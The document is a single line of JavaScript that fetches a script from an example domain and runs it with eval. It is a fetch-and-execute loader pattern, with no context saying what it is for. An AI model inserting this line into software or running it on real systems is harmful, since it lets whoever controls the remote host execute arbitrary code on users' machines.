eval(await (await fetch('https://cdn.example.net/p.js')).text());
